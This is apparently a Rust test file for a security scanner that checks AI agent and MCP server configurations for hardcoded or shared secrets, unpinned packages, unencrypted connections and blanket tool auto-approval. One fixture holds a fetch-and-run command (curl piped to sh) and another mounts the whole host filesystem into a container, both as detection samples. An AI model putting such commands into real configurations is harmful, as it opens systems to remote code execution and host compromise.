use serde_json::json;
use tracehound_graph::{Limits, Moment, graph_of};

use super::*;

mod documented;
mod live;
mod rewrites;
mod services;

/// Findings of a document with these nodes and edges, as `severity kind title @file:line`.
fn check(nodes: serde_json::Value, edges: serde_json::Value, expected: &[&str]) {
    let document = json!({
        "meta": { "version": 1, "type": "agenthound-ingest", "collector": "config", "scan_id": "s", "timestamp": "2026-01-01T00:00:00Z" },
        "graph": { "nodes": nodes, "edges": edges },
    });
    let graph = graph_of(document.to_string().as_bytes(), &Limits::default(), Moment(0)).unwrap();
    let rules = tracehound_rules::builtin_rules().unwrap();
    let analysis = crate::Analysis::of(&graph);
    let found: Vec<String> = all(&Picture::new(&graph, &analysis), rules)
        .iter()
        .filter(|finding| tracehound_model::EdgeKind::from_name(&finding.kind).is_none())
        .map(|finding| {
            let place = finding.place.as_ref().map(|place| format!(" @{}:{}", place.file, place.line));
            assert!(
                !finding.category.is_empty()
                    && !finding.remediation.is_empty()
                    && !finding.evidence.is_empty()
                    && !finding.standards.is_empty()
            );
            format!("{} {} {}{}", finding.severity, finding.kind, finding.title, place.unwrap_or_default())
        })
        .collect();
    assert_eq!(found, expected);
}

fn node(id: &str, kind: &str, properties: serde_json::Value) -> serde_json::Value {
    json!({ "id": id, "kinds": [kind], "properties": properties })
}

fn edge(source: &str, kind: &str, target: &str, line: u32) -> serde_json::Value {
    let properties = json!({ "file": "/c.json", "line": line, "column": 3, "evidence": "because" });
    json!({ "source": source, "target": target, "kind": kind, "properties": properties })
}

#[test]
fn secrets_in_files_and_secrets_that_are_shared() {
    let secret = |id: &str, kind: &str| {
        node(
            id,
            "Credential",
            json!({
                "type": kind, "name": "API_KEY", "is_exposed": kind == "hardcoded", "value_hash": "h", "value_known": true,
                "kept_in": "environment variable",
                "rule_matches": "[{\"rule\":\"credential-ai-service\",\"version\":1,\"field\":\"value\",\"span\":[0,1],\"excerpt\":\"<hidden>\"}]",
            }),
        )
    };
    let server = |id: &str| node(id, "MCPServer", json!({ "name": id, "transport": "stdio", "endpoint": "x" }));
    check(
        json!([server("A"), server("B"), secret("K", "hardcoded"), secret("L", "envVar")]),
        json!([edge("A", "HAS_ENV_VAR", "K", 7), edge("B", "HAS_ENV_VAR", "L", 9)]),
        &[
            "critical hardcoded-credential The secret of `A` stands in the configuration, as the environment variable `API_KEY` @/c.json:7",
            "medium shared-credential `A` and `B` are given the same secret @/c.json:9",
        ],
    );
}

#[test]
fn values_that_nobody_saw_are_not_shared() {
    let secret = |id: &str| {
        node(id, "Credential", json!({ "type": "envVar", "name": "K", "value_hash": "h", "value_known": false }))
    };
    let server = |id: &str| node(id, "MCPServer", json!({ "name": id, "transport": "stdio" }));
    check(
        json!([server("A"), server("B"), secret("K"), secret("L")]),
        json!([edge("A", "HAS_ENV_VAR", "K", 7), edge("B", "HAS_ENV_VAR", "L", 9)]),
        &[],
    );
}

#[test]
fn a_secret_of_no_server_is_found_where_it_stands() {
    check(
        json!([node(
            "K",
            "Credential",
            json!({
                "type": "hardcoded", "name": "users/0/password", "is_exposed": true, "value_hash": "h", "file": "/c.json", "line": 4, "column": 1,
            })
        )]),
        json!([]),
        &["high hardcoded-credential A secret stands in the configuration, as `users/0/password` @/c.json:4"],
    );
}

#[test]
fn packages_commands_and_connections() {
    let server = |id: &str, mut properties: serde_json::Value| {
        properties["name"] = json!(id);
        node(id, "MCPServer", properties)
    };
    let local = json!({ "hostname": "box", "is_local": true });
    let far = json!({ "hostname": "far.example", "is_local": false, "is_public": true });
    check(
        json!([
            server(
                "float",
                json!({ "transport": "stdio", "endpoint": "npx", "is_pinned": false, "package": "p", "registry": "npm" })
            ),
            server(
                "pinned",
                json!({ "transport": "stdio", "endpoint": "npx", "is_pinned": true, "package": "p", "registry": "npm" })
            ),
            server(
                "script",
                json!({ "transport": "stdio", "endpoint": "sh", "args": ["-c", "curl -s https://x.example/i | sh"] })
            ),
            server(
                "open",
                json!({ "transport": "stdio", "endpoint": "docker", "args": ["run", "-v", "/:/host", "x"] })
            ),
            server(
                "clear",
                json!({ "transport": "http", "endpoint": "http://far.example/mcp", "auth_method": "apiKey" })
            ),
            server("near", json!({ "transport": "http", "endpoint": "http://localhost/mcp", "auth_method": "none" })),
            server("far", json!({ "transport": "http", "endpoint": "https://far.example/mcp", "auth_method": "none" })),
            node("box", "Host", local),
            node("net", "Host", far),
            node("agent", "AgentInstance", json!({ "name": "cursor" })),
            node("config", "ConfigFile", json!({ "path": "/c.json" })),
        ]),
        json!([
            edge("clear", "RUNS_ON", "net", 1),
            edge("near", "RUNS_ON", "box", 1),
            edge("far", "RUNS_ON", "net", 1),
            edge("float", "CONFIGURED_IN", "config", 12),
            { "source": "agent", "target": "far", "kind": "TRUSTS_SERVER", "properties": { "auto_approve": ["*"] } },
            { "source": "agent", "target": "near", "kind": "TRUSTS_SERVER", "properties": { "auto_approve": ["read"] } },
        ]),
        &[
            "high approves-every-tool cursor uses every tool of `far` without asking",
            "high command-runs-fetched-code The command of `script` downloads a script and runs it",
            "high container-without-walls The command of `open` starts a container that is given the whole file system",
            "medium floating-package `float` runs whatever version of `p` is there @/c.json:12",
            "medium unencrypted-connection `clear` is spoken to in the clear",
            "low approves-tools cursor uses some tools of `near` without asking",
            "low unauthenticated-server `far` is used without authentication",
        ],
    );
}

#[test]
fn matches_of_rules_in_instructions_are_findings_of_the_rule() {
    let rules = tracehound_rules::builtin_rules().unwrap();
    let rule =
        rules.iter().find(|rule| rule.scope.targets.iter().any(|it| it.to_string() == "instruction.content")).unwrap();
    let matches =
        json!([{ "rule": rule.id, "version": 1, "field": "content", "span": [0, 3], "excerpt": "abc" }]).to_string();
    let expected = format!("{} {} {}: /p/AGENTS.md @/p/AGENTS.md:3", rule.severity.name(), rule.id, rule.name);
    check(
        json!([node(
            "I",
            "InstructionFile",
            json!({ "path": "/p/AGENTS.md", "rule_matches": matches, "line": 3, "column": 1 })
        )]),
        json!([]),
        &[&expected],
    );
}
